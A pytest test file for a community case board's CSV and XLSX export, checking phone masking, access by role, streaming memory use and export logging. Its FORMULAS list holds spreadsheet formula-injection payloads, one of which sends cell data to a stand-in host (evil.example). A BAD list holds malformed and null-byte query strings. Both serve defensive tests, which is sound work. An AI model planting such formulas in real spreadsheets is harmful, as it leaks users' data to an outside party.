"""The board as a file (/cases.csv, /cases.xlsx): the board's rows for the board's query
string, phones masked, no cell a formula, streamed in constant memory, office roles only."""

import csv
import gc
import io
import re
import secrets
import tracemalloc
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert

from coordinator.cases import queries, services
from coordinator.cases.models import Case
from coordinator.extensions import db
from coordinator.i18n import local_date, utcnow

HX = {"HX-Request": "true"}
CATEGORY_ZH = "下水道与污水"


def read_csv(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith("\ufeff".encode())  # the BOM Excel needs for Chinese text
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def read_xlsx(response):
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    return sheet, [list(row) for row in sheet.iter_rows()]


def csv_ids(client, query: str) -> list[int]:
    response = client.get(f"/cases.csv?{query}")
    assert response.status_code == 200, query
    return [int(row[0]) for row in read_csv(response)[1:]]


def board_ids(client, query: str) -> set[int]:
    """The cases the board shows for a query string, every page."""
    found, page = set(), 1
    while True:
        html = client.get(f"/cases?{query}&page={page}").get_data(as_text=True)
        found |= {int(n) for n in re.findall(r'<tr id="case-(\d+)"', html)}
        if f"page={page + 1}" not in html:
            return found
        page += 1


@pytest.fixture
def cases(world, make):
    """Cases in several states, categories, channels and places; one elsewhere."""
    made = {
        "new": world.case("received"),
        "urgent": world.case("received", tier="emergency", category="plumbing"),
        "hotline": world.case("accepted", channel="hotline_12345", hotline_ticket="T20261201"),
        "late": world.case("in_progress", description="楼道灯不亮"),
        "closed": world.case("closed"),
        "void": world.case("void"),
    }
    made["late"].due_at = utcnow() - timedelta(days=3)
    other = make.compound(world.community, name="别的院")
    made["elsewhere"] = world.case(
        "handled", compound_id=other.id, building_id=None, entrance_id=None, floor=None
    )
    outside = make.compound(name="外社区的院")
    made["outside"] = services.open_case(
        world.admin,
        world.case_data(
            community_id=outside.community_id,
            compound_id=outside.id,
            building_id=None,
            entrance_id=None,
        ),
    )
    db.session.commit()
    return made


def queries_of(world, cases) -> list[str]:
    today = local_date().isoformat()
    return [
        "",
        "status=all",
        "status=overdue",
        "status=closed",
        "status=void",
        "category=plumbing&status=all",
        "tier=emergency",
        "channel=hotline_12345&status=all",
        "q=反水&status=all",
        "q=楼道灯",
        f"q=%23{cases['late'].id}&status=all",
        "q=13912345678&status=all",
        f"team={world.team.id}&status=all",
        f"community={world.community.id}&status=all",
        f"compound={world.compound.id}&status=all",
        f"building={world.building.id}&status=all",
        f"since={today}&until={today}&status=all",
        f"dated=closed&since={today}&status=all",
        "dated=handled&until=2020-01-01&status=all",
    ]


@pytest.mark.parametrize("who", ["admin", "staff"])
def test_the_file_has_the_boards_rows_newest_first(client, auth, world, cases, who):
    """The same rows as the board for each query string (every page of it), in the reader's
    scope: staff do not get the other community's case, the admin does."""
    auth.login(getattr(world, who))
    for query in queries_of(world, cases):
        ids = csv_ids(client, query)
        assert set(ids) == board_ids(client, query), query
        assert ids == sorted(ids, reverse=True), query  # logged one after the other
        assert len(ids) == len(set(ids))
    everything = set(csv_ids(client, "status=all"))
    assert (cases["outside"].id in everything) == (who == "admin")
    assert cases["closed"].id not in csv_ids(client, "")  # the board's default: open cases


def test_csv_columns_in_chinese_with_beijing_times_and_a_masked_phone(client, auth, world, cases):
    auth.login(world.staff)
    response = client.get(f"/cases.csv?q=%23{cases['late'].id}")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = read_csv(response)
    header, row = rows[0], rows[1]
    assert header[:4] == ["编号", "登记时间", "渠道", "12345 工单号"]
    assert header[-1] == "是否超时" and "电话" in header and "反映人" in header
    cell = dict(zip(header, row, strict=True))
    case = cases["late"]
    assert cell["编号"] == str(case.id)
    assert cell["类别"] == CATEGORY_ZH
    assert cell["电话"] == "139****5678"
    assert "13912345678" not in response.get_data(as_text=True)
    assert cell["状态"] == "处理中" and cell["紧急程度"] == "一般"
    assert cell["队伍"] == world.team.name
    assert cell["小区"] == world.compound.name and cell["楼栋"] == "3号楼"
    assert cell["是否超时"] == "是"
    beijing = case.created_at + timedelta(hours=8)
    assert cell["登记时间"] == beijing.strftime("%Y-%m-%d %H:%M")


def test_headers_in_english_when_asked(client, auth, world, cases):
    client.set_cookie("lang", "en")
    auth.login(world.staff)
    header = read_csv(client.get("/cases.csv"))[0]
    assert header[:3] == ["Case no.", "Logged", "Channel"] and header[-1] == "Overdue?"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_file_name_and_headers(client, auth, world, cases, fmt):
    auth.login(world.admin)
    response = client.get(f"/cases.{fmt}?status=all")
    disposition = response.headers["Content-Disposition"]
    name = f"cases-{local_date().isoformat()}.{fmt}"
    assert disposition.startswith("attachment;")
    assert f'filename="{name}"' in disposition and f"filename*=UTF-8''{name}" in disposition
    assert response.headers["Cache-Control"] == "no-store"
    assert response.is_streamed


def test_phones_masked_for_the_admin_too_in_both_files(client, auth, world, cases):
    auth.login(world.admin)
    text = client.get("/cases.csv?status=all").get_data()
    assert b"13912345678" not in text and b"139****5678" in text
    _sheet, rows = read_xlsx(client.get("/cases.xlsx?status=all"))
    phones = {row[13].value for row in rows[1:]}
    assert phones == {"139****5678"}


FORMULAS = ['=HYPERLINK("http://evil.example?"&A2, "点击")', "＝1+1", "@SUM(A1:A2)", " -2+3"]


def test_no_cell_is_a_formula(client, auth, world, cases):
    """Typed text that a spreadsheet would run: behind an apostrophe in CSV; in XLSX a string
    cell with the quote prefix, reading back exactly as typed. #REF! stays text too."""
    typed = [
        world.case("received", description=text, reporter_name="#REF!", household="+1")
        for text in FORMULAS
    ]
    auth.login(world.staff)
    rows = read_csv(client.get("/cases.csv"))
    header = rows[0]
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    for case, text in zip(typed, FORMULAS, strict=True):
        cell = by_id[str(case.id)]
        assert cell["诉求内容"] == "'" + text
        assert cell["门牌或住户"] == "'+1"
    _sheet, rows = read_xlsx(client.get("/cases.xlsx"))
    by_id = {row[0].value: row for row in rows[1:]}
    for case, text in zip(typed, FORMULAS, strict=True):
        row = by_id[case.id]
        description, reporter = row[14], row[12]
        assert description.value == text and description.data_type == "s"
        assert description.quotePrefix
        assert reporter.value == "#REF!" and reporter.data_type == "s"


def test_xlsx_reads_back_with_types_kept(client, auth, world, cases, app):
    auth.login(world.staff)
    response = client.get(f"/cases.xlsx?q=%23{cases['hotline'].id}")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    sheet, rows = read_xlsx(response)
    assert sheet.title == "诉求" and sheet.freeze_panes == "A2"
    header = [c.value for c in rows[0]]
    assert header[0] == "编号" and rows[0][0].font.b
    row = {label: cell for label, cell in zip(header, rows[1], strict=True)}
    case = cases["hotline"]
    assert row["编号"].value == case.id  # a number stays a number
    assert row["12345 工单号"].value == "T20261201" and row["12345 工单号"].data_type == "s"
    assert row["门牌或住户"].value == "101" and row["门牌或住户"].data_type == "s"  # text
    assert row["楼层"].value == 1
    logged = row["登记时间"]
    assert logged.is_date and logged.number_format == "yyyy-mm-dd hh:mm"
    beijing = (case.created_at + timedelta(hours=8)).replace(second=0, microsecond=0)
    assert logged.value == beijing
    assert row["结案时间"].value is None
    assert row["是否超时"].value == "否"


def test_the_board_links_to_its_files_with_its_filters(client, auth, world, cases):
    """The links sit in the block htmx swaps, so they follow the filters; page left out."""
    auth.login(world.staff)
    for headers in ({}, HX):
        html = client.get("/cases?category=drain&status=all&page=1", headers=headers).get_data(
            as_text=True
        )
        assert 'href="/cases.csv?category=drain&amp;status=all"' in html
        assert 'href="/cases.xlsx?category=drain&amp;status=all"' in html
    assert 'href="/cases.csv"' in client.get("/cases").get_data(as_text=True)


@pytest.mark.parametrize("role", ["lead", "worker", "volunteer", "resident"])
def test_only_the_office_gets_the_files(client, auth, world, make, role):
    user = {"lead": world.lead, "worker": world.worker}.get(role) or make.user(role)
    make.commit()
    auth.login(user)
    for fmt in ("csv", "xlsx"):
        assert client.get(f"/cases.{fmt}?status=all").status_code == 403


def test_signed_out_goes_to_the_login(client, world):
    response = client.get("/cases.csv")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


BAD = [
    "q=%00%00",
    "q=" + "堵" * 500,
    "community=99999999999999999999",
    "team=-99999999999",
    "compound=abc&building=%00",
    "since=9999-12-31&until=0000-00-00",
    "since=2026-02-30&dated=%00",
    "dated=%20%09%E3%80%80&status=%20&category=%20&since=2026-01-01",
    "status=%00closed&category=%00",
    "q=%23999999999999999999",
    "q=99999999999999999999",
    "page=99999999999999999",
    "tier=emergency&tier=general&since=2026-01-01&since=2026-01-02",
]


@pytest.mark.parametrize("query", BAD)
def test_bad_query_strings_are_ignored_like_on_the_board(client, auth, world, cases, query):
    auth.login(world.admin)
    assert client.get(f"/cases?{query}").status_code == 200
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/cases.{fmt}?{query}")
        assert response.status_code == 200, query
        response.get_data()


def test_statements_do_not_grow_with_rows(client, auth, world, count_queries):
    """The user, the names of teams and places, the cases: 3 statements for 2 rows or 60."""
    auth.login(world.staff)

    def statements(fmt):
        with count_queries() as q:
            response = client.get(f"/cases.{fmt}?status=all")
            response.get_data()
        return q.count

    for _ in range(2):
        world.case("received")
    few = [statements("csv"), statements("xlsx")]
    bulk(world, 60)
    assert [statements("csv"), statements("xlsx")] == few == [3, 3]


def bulk(world, n: int, description: str = "厨房下水道反水，楼上也漏水，已经三天了") -> None:
    """n cases written straight to the table (the export reads nothing else)."""
    now = utcnow()
    rows = [
        dict(
            category="drain",
            tier="general",
            channel="phone",
            hotline_ticket="",
            community_id=world.community.id,
            compound_id=world.compound.id,
            building_id=world.building.id,
            entrance_id=world.building.entrances[0].id,
            floor=i % 6 + 1,
            household=f"{i % 6 + 1}0{i % 3 + 1}",
            reporter_name="李阿姨",
            reporter_phone=f"139{i:08d}",
            description=f"{description} {i}",
            status="in_progress",
            team_id=world.team.id,
            created_at=now - timedelta(minutes=i),
            dispatched_at=now - timedelta(minutes=i),
            accepted_at=now - timedelta(minutes=i),
            due_at=now + timedelta(days=7) - timedelta(minutes=i),
            tracking_token=secrets.token_hex(16),
        )
        for i in range(n)
    ]
    db.session.execute(insert(Case), rows)
    db.session.commit()


def _peak_while_streaming(client, url: str) -> tuple[int, int, int]:
    """(peak traced bytes while the body is read, chunks, bytes) for one download."""
    response = client.get(url, buffered=False)
    assert response.status_code == 200 and response.is_streamed
    gc.collect()
    tracemalloc.start()
    try:
        chunks = size = 0
        for chunk in response.response:
            chunks += 1
            size += len(chunk)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        response.close()
    return peak, chunks, size


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_streamed_in_constant_memory(client, auth, world, fmt, monkeypatch):
    """Eight times the rows: eight times the bytes, in many chunks, but not more memory. (The
    rows come in batches of 250 here, so that a few thousand rows are many batches: the peak
    is two batches, the one being written and the next being fetched.)"""
    monkeypatch.setattr(queries, "EXPORT_BATCH", 250)
    auth.login(world.staff)
    bulk(world, 1500)
    small = _peak_while_streaming(client, f"/cases.{fmt}?status=all")
    bulk(world, 10500)
    large = _peak_while_streaming(client, f"/cases.{fmt}?status=all")
    assert large[2] > 6 * small[2]  # the file did grow
    assert large[1] > 3  # in pieces, not one body
    # A buffered file would hold all of it (the larger CSV is ~3.6 MB); the stream's peak
    # is the same for both sizes.
    assert large[0] < small[0] * 1.2 + 100_000, (small, large)
    assert large[0] < large[2] / 3, (small, large)


def test_the_export_is_logged(client, auth, world, cases, caplog):
    auth.login(world.staff)
    with caplog.at_level("INFO", logger="coordinator.cases.export"):
        client.get("/cases.csv?status=all&category=drain").get_data()
    (line,) = [r.getMessage() for r in caplog.records if "case export" in r.getMessage()]
    assert f"user {world.staff.id} (staff)" in line and "as csv" in line
    assert "'category': ['drain']" in line and " rows" in line


def test_overdue_column_follows_the_case_rule(client, auth, world, cases):
    auth.login(world.staff)
    rows = read_csv(client.get("/cases.csv?status=all"))
    overdue = {int(row[0]) for row in rows[1:] if row[-1] == "是"}
    assert overdue == {cases["late"].id}
